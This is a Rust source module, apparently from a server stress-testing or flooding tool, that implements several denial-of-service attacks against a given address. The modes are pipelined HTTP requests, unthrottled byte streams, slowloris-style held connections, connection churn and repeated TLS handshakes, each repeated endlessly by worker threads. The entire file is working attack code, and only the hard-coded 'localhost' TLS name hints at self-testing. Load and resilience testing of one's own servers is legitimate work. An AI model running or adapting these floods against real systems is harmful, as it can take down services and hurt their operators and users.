//! How a flood is sent: by threads with sockets, which do little else.

use std::{
    io::{self, ErrorKind, Read, Write},
    net::{SocketAddr, TcpStream},
    sync::{
        Arc,
        atomic::{AtomicU64, Ordering},
    },
    thread,
    time::Duration,
};

use rustls::{ClientConfig, ClientConnection, StreamOwned, pki_types::ServerName};

use super::blocking::{Buffer, connect};
use crate::Result;

/// The pieces that a connection sends, one after the other, without an end.
pub(super) type Speech = Box<dyn Iterator<Item = Vec<u8>>>;

/// The action that a thread repeats.
pub(super) enum Attack {
    /// Sends one of these requests of HTTP/1.1 after the other, each after the answer to the request before
    /// it.
    Asks(Vec<Vec<u8>>),
    /// Sends these pieces without waiting for anything, and ignores the answers.
    Says(Box<dyn Fn() -> Speech + Send + Sync>),
    /// Opens these connections and sends `first` on each. Then it sends `then` on each, once a second. It
    /// reads nothing.
    Holds { connections: usize, first: Vec<u8>, then: Vec<u8> },
    /// Opens a connection, sends these bytes, and closes the connection.
    Churns(Vec<u8>),
    /// Shakes hands, and closes the connection.
    ShakesHands(Arc<ClientConfig>),
}

/// The attacked server, and the number of actions so far.
pub(super) struct Against {
    pub(super) address: SocketAddr,
    pub(super) rounds: AtomicU64,
}

impl Against {
    fn count(&self) {
        self.rounds.fetch_add(1, Ordering::Relaxed);
    }
}

/// The pause of a thread that can do nothing.
const PAUSE: Duration = Duration::from_micros(200);
const LONG_PAUSE: Duration = Duration::from_millis(5);

/// Repeats the attack without an end.
pub(super) fn run(attack: &Attack, against: &Against) -> ! {
    loop {
        // The server closes, refuses, or has no room: the thread continues with the next connection.
        if attack.once(against).is_err() {
            thread::sleep(PAUSE);
        }
    }
}

impl Attack {
    fn once(&self, against: &Against) -> Result<()> {
        match self {
            Self::Asks(requests) => ask(requests, against),
            Self::Says(speech) => Ok(say(speech(), against)?),
            Self::Holds { connections, first, then } => hold(*connections, first, then, against),
            Self::Churns(said) => {
                let mut stream = TcpStream::connect(against.address)?;
                stream.write_all(said)?;
                against.count();
                Ok(())
            }
            Self::ShakesHands(config) => shake_hands(config, against),
        }
    }
}

fn ask(requests: &[Vec<u8>], against: &Against) -> Result<()> {
    let mut stream = connect(against.address, None)?;
    let mut buffer = Buffer::default();
    for request in requests.iter().cycle() {
        stream.write_all(request)?;
        buffer.read_answer(&mut *stream)?;
        against.count();
    }
    Ok(())
}

fn say(mut speech: Speech, against: &Against) -> io::Result<()> {
    let mut stream = TcpStream::connect(against.address)?;
    stream.set_nodelay(true)?;
    stream.set_nonblocking(true)?;
    let mut heard = vec![0; 1 << 16];
    let (mut piece, mut said) = (vec![], 0);
    loop {
        if said == piece.len() {
            let Some(next) = speech.next() else { return Ok(()) };
            (piece, said) = (next, 0);
            against.count();
        }
        let written = or_nothing(stream.write(&piece[said..]))?;
        said += written.unwrap_or_default();
        let read = or_nothing(stream.read(&mut heard))?;
        match (written, read) {
            (_, Some(0)) => return Ok(()),
            (None, None) => thread::sleep(PAUSE),
            _ => {}
        }
    }
}

fn or_nothing(done: io::Result<usize>) -> io::Result<Option<usize>> {
    match done {
        Ok(bytes) => Ok(Some(bytes)),
        Err(error) if error.kind() == ErrorKind::WouldBlock => Ok(None),
        Err(error) => Err(error),
    }
}

fn hold(connections: usize, first: &[u8], then: &[u8], against: &Against) -> Result<()> {
    let open = || -> io::Result<TcpStream> {
        let mut stream = TcpStream::connect(against.address)?;
        stream.set_nonblocking(true)?;
        // Bytes that do not fit into the socket are not sent.
        let _ = stream.write(first);
        against.count();
        Ok(stream)
    };
    let mut held: Vec<Option<TcpStream>> = (0..connections).map(|_| None).collect();
    loop {
        for place in &mut held {
            let is_open = place.as_mut().is_some_and(|stream| {
                let is_said = or_nothing(stream.write(then)).is_ok();
                is_said && !matches!(or_nothing(stream.peek(&mut [0])), Ok(Some(0)) | Err(_))
            });
            if !is_open {
                *place = open().ok();
            }
        }
        thread::sleep(if then.is_empty() { LONG_PAUSE } else { Duration::from_secs(1) });
    }
}

fn shake_hands(config: &Arc<ClientConfig>, against: &Against) -> Result<()> {
    let stream = TcpStream::connect(against.address)?;
    let client = ClientConnection::new(config.clone(), ServerName::try_from("localhost")?)?;
    let mut stream = StreamOwned::new(client, stream);
    while stream.conn.is_handshaking() {
        stream.conn.complete_io(&mut stream.sock)?;
    }
    against.count();
    Ok(())
}
